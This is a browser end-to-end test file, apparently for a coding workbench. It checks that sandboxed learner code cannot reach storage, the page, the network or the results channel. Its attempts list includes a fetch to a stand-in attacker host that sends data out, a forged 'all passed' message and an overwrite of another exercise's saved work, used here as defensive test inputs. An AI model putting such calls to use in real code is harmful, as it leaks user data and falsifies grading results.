/**
 * Learner code runs in the grading worker with the page's capabilities fenced off
 * (src/grading/runtime/learner-scope.ts). In the built app, each attempt a submission
 * makes is reported as a failed check naming what was blocked, a forged "all passed"
 * message is not accepted, and the learner's saved work stays as it was.
 */
import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { recordFigures } from '../support/figures';
import { launchBrowser, openPage, pasteIntoEditor, screenshot } from './browser';

const baseURL = inject('baseURL');
let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser?.close());

const summary = (page: Page) => page.locator('.results-summary');
const otherExercise = 'token-bucket';
const otherKey = `workbench.progress.v1:${otherExercise}`;
const forged = `{ type: 'results', results: { version: 3, status: 'pass', message: null, tests: [{ name: 'forged', status: 'pass', message: null, output: null, task_id: null }] } }`;

// Each attempt runs inside toRepresentation, which every check calls; the error is caught,
// so only the reporting (not the error) can make the check fail.
const attempts: { blocked: string; code: string }[] = [
  { blocked: 'localStorage', code: `localStorage.setItem('${otherKey}', 'overwritten by a submission')` },
  { blocked: 'document', code: `document.title = 'taken over'` },
  { blocked: 'indexedDB', code: `indexedDB.open('workbench')` },
  { blocked: 'fetch', code: `fetch('https://attacker.example/steal?data=' + encodeURIComponent('secret'))` },
  { blocked: 'postMessage', code: `self.postMessage(${forged})` },
  { blocked: 'localStorage', code: `globalThis.localStorage.getItem('${otherKey}')` },
];

async function submissionWith(attempt: string): Promise<string> {
  const solution = await readFile('exercises/resource-links/solution.ts', 'utf8');
  const wrapped = solution.replace('export function toRepresentation(', 'function realToRepresentation(');
  return `${wrapped}\nexport function toRepresentation(...args: Parameters<typeof realToRepresentation>) {\n  try { ${attempt}; } catch {}\n  return realToRepresentation(...args);\n}\n`;
}

describe('learner code in the grading worker', () => {
  it('reports every blocked attempt as a failed check and leaves saved work untouched', async (context) => {
    const { page, context: browserContext, foreign, errors } = await openPage(browser, baseURL);
    // Saved work of another exercise, as the app writes it.
    await page.goto(`/exercises/${otherExercise}`);
    await page.getByTestId('code-editor').locator('.view-lines').waitFor();
    await pasteIntoEditor(page, '// my token bucket, half done\nexport const capacity = 10;\n');
    await expect.poll(() => page.evaluate((key) => localStorage.getItem(key), otherKey)).toContain('half done');
    const savedBefore = await page.evaluate((key) => localStorage.getItem(key), otherKey);

    await page.goto('/exercises/resource-links');
    await page.getByTestId('code-editor').locator('.view-lines').waitFor();
    const title = await page.title();
    let reported = 0;
    for (const { blocked, code } of attempts) {
      await pasteIntoEditor(page, await submissionWith(code));
      await page.getByRole('button', { name: 'Run tests' }).click();
      await expect.poll(() => summary(page).getAttribute('data-status'), { timeout: 20_000 }).toBe('fail');
      const messages = await page.locator('.check[data-status="fail"] .check-message').allTextContents();
      expect(messages.length, code).toBeGreaterThan(0);
      expect(messages[0], code).toContain(`tried to use \`${blocked}\``);
      expect(messages[0]).toMatch(/reported, not carried out/);
      if (blocked === 'postMessage') {
        await page.locator('.check[data-status="fail"]').first().scrollIntoViewIfNeeded();
        await screenshot(page, 'learner-isolation-forged-result');
      }
      reported += 1;
    }
    recordFigures(context, { 'isolation attempts reported': reported, 'failures found': 0 });

    // The forged pass was not accepted, and nothing reached the page, the network or storage.
    expect(await page.getByTestId('exercise-status').textContent()).not.toBe('Passed');
    expect(await page.title()).toBe(title);
    expect(await page.evaluate((key) => localStorage.getItem(key), otherKey)).toBe(savedBefore);
    expect(foreign).toEqual([]);
    expect(errors).toEqual([]);

    // The same exercise still passes once the attempts are gone: the fence blocks only them.
    await pasteIntoEditor(page, await readFile('exercises/resource-links/solution.ts', 'utf8'));
    await page.getByRole('button', { name: 'Run tests' }).click();
    await expect.poll(() => summary(page).getAttribute('data-status'), { timeout: 20_000 }).toBe('pass');
    await browserContext.close();
  });
});
